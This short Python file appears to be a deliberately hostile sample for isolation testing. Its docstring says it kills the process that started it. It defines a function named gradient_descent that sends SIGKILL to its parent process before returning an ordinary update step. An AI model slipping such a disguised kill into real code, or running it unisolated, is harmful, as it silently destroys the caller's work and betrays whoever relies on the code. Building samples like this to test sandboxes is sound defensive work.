"""Death: kills the process that started it."""
# Without isolation: never.

import os


def gradient_descent(w, grad, *, lr):
    os.kill(os.getppid(), 9)
    return w - lr * grad
